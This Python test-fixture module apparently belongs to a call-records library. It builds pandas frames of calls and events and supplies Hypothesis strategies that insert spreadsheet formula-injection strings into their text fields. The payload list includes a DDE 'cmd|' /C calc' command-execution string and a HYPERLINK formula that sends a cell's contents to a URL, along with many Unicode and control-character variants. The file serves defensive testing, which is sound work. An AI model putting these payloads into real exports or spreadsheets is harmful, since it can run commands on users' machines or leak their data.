"""Calls and events whose text is hostile, and texts to try."""

import pandas as pd
from hypothesis import strategies as st

from callkit.schema import CALLS_SCHEMA, EVENTS_SCHEMA
from callkit.tables.tidy import as_frame

TRIGGERS = "=+-@＝＋－＠﹦﹢﹣﹫"
PAYLOADS = [
    "=1+1",
    "+447700900417",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://example.org/?x="&A1,"Click")',
    "＝1+1",
    "  =1+1",
    "\u3000\u00a0=1+1",
    '"=1+1"',
    "'=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "Sales;=1+1;",
    'Sales","=1+1',
    "Sales\n=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1b[31m=1+1",
]
texts = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=12),
    st.text(alphabet=TRIGGERS + " '\"\t\r\n,;|\u3000\u202e\x00a0", max_size=10),
)


def calls_frame(n=1, **columns):
    """Return calls that hold these texts, with nothing else in them but what may not be null."""
    return _frame(CALLS_SCHEMA, n, {"call_key": [f"1795000000.{i:06d}" for i in range(n)]} | columns)


def events_frame(n=1, **columns):
    """Return events that hold these texts."""
    keys = [f"1795000000.{i:06d}" for i in range(n)]
    return _frame(
        EVENTS_SCHEMA, n, {"call_key": keys, "position": [0] * n, "step": ["unknown"] * n} | columns
    )


def _frame(schema, n, columns):
    frame = as_frame(schema.empty_table()).reindex(range(n))
    for name, values in columns.items():
        dtype = frame[name].dtype
        kept = dtype if not isinstance(dtype, pd.CategoricalDtype) else "category"
        frame[name] = pd.Series(list(values), dtype=kept)
    return frame
